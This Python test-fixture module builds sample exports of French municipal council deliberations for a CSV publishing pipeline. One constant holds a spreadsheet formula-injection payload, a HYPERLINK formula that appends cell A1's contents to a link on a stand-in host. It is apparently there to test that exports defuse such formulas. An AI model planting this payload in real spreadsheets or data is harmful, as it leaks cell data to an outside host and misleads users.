"""A small export, written as a batch writes it, on which the forms of publication are tried."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from pipeline.export import tables
from pipeline.export.schema import TABLES
from pipeline.export.staging import Rendered, staging
from pipeline.publish.source import Source, open_export

Row = dict[str, Any]
HOSTILE = '=HYPERLINK("http://example.org/?"&A1;"Cliquez")'
SIRET = "21860194600013"  # the example of the SCDL documentation
ACT: Row = {
    "deliberation_id": "aaaaaaaaaaaa-001",
    "file": "2024/a.pdf",
    "page_first": 1,
    "page_last": 2,
    "collectivity": "Montreval-le-Pré",
    "collectivity_type": "commune",
    "body": "Conseil municipal",
    "date": "2024-03-12",
    "number": "2024-31",
    "title": "Subvention à l'école de musique",
    "members_in_office": 15,
    "members_voting": 12,
    "outcome": "adopted",
    "votes_for": 9,
    "votes_against": 2,
    "votes_abstention": 1,
    "prefecture_id": "086-218601946-20240312-2024_31-DE",
    "received_on": "2024-03-18",
    "confidence": 0.98,
}
AMOUNT: Row = {
    "deliberation_id": ACT["deliberation_id"],
    "segment": "deliberation",
    "article": "1",
    "value": "1500.50",
    "currency": "EUR",
    "role": "grant",
    "beneficiary": "École de musique",
    "label": "Fonctionnement 2024",
    "raw": "1 500,50 €",
    "page": 2,
    "x0": 40.5,
    "confidence": 0.9,
}


def rows(**changed: Row) -> dict[str, list[Row]]:
    """The rows of one deliberation; `deliberations={…}` and `amounts={…}` change cells of theirs."""
    key = {"deliberation_id": ACT["deliberation_id"]}
    people = [
        {**key, "last_name": "BRÉVAL", "first_name": "Lou", "status": "present", "page": 1},
        {**key, "last_name": "NORD", "first_name": "Ève", "status": "absent", "page": 1},
        {
            **key,
            "last_name": "OUEST",
            "status": "represented",
            "proxy_holder": "Lou BRÉVAL",
            "recused": True,
            "page": 1,
        },
    ]
    drafts = {
        "deliberations": [ACT],
        "attendance": people,
        "votes": [{**key, "position": "against", "count": 2, "names": ["Ève NORD", "Lou BRÉVAL"], "page": 2}],
        "articles": [{**key, "number": "1", "action": "attribuer", "text": "ATTRIBUE l'aide à l'École.", "page": 2}],
        "amounts": [AMOUNT],
        "imputations": [{**key, "segment": "deliberation", "nature": "65748", "expense": "-20.00", "page": 2}],
        "references": [
            {**key, "kind": "law", "number": "82-213", "date": "1982-03-02", "text": "Vu la loi", "page": 1}
        ],
        "segments": [{**key, "kind": "deliberation", "page_first": 1, "page_last": 2}],
        "checks": [{**key, "rule": "votes.sum", "severity": "warning", "message": "12 votants", "page": 2}],
    }
    return {
        table.name: [{**row, **changed.get(table.name, {})} for row in drafts.get(table.name, [])] for table in TABLES
    }


def _csv(held: dict[str, list[Row]]) -> dict[str, str]:
    return {table.name: tables.lines(table, held.get(table.name, [])) for table in TABLES}


TEXT = "Délégation de compétences\fATTRIBUE l'aide à l'École."


def export(folder: Path, held: dict[str, list[Row]] | None = None, text: str = TEXT) -> Source:
    """The export of one document in a folder, opened."""
    summary = {"file": "2024/a.pdf", "sha256": "aa" * 32, "pages": 2, "deliberations": 1}
    with staging(folder) as stage:
        stage.add("2024/a", Rendered(_csv(rows() if held is None else held), "{}\n", text, summary))
        stage.publish()
    return open_export(folder)


def several(folder: Path, count: int, **changed: Row) -> Source:
    """The export of many documents of one deliberation each."""
    with staging(folder) as stage:
        for at in range(1, count + 1):
            key, file = f"{at:012x}-001", f"{at:06d}.txt"
            held = {
                name: [{**row, "deliberation_id": key} | ({"file": file} if "file" in row else {}) for row in table]
                for name, table in rows(**changed).items()
            }
            summary = {"file": file, "sha256": f"{at:064x}", "pages": 1, "deliberations": 1}
            stage.add(f"{at:06d}", Rendered(_csv(held), "{}\n", TEXT, summary))
        stage.publish()
    return open_export(folder)


def twice(folder: Path) -> Source:
    """The export of a document of two acts, another of one act, and a copy of each of the two."""
    with staging(folder) as stage:
        for stem, sign, acts in (("a", "a", 2), ("b", "b", 1), ("c", "b", 1), ("d", "a", 2)):
            held: dict[str, list[Row]] = {table.name: [] for table in TABLES}
            for act in range(1, acts + 1):
                for name, table in rows().items():
                    changed = {"deliberation_id": f"{sign * 12}-{act:03d}", "number": f"{sign}{act}"}
                    held[name] += [
                        {**row, **changed} | ({"file": f"{stem}.txt"} if "file" in row else {}) for row in table
                    ]
            summary = {"file": f"{stem}.txt", "sha256": sign * 64, "pages": 1, "deliberations": acts}
            stage.add(stem, Rendered(_csv(held), "{}\n", TEXT, summary))
        stage.publish()
    return open_export(folder)
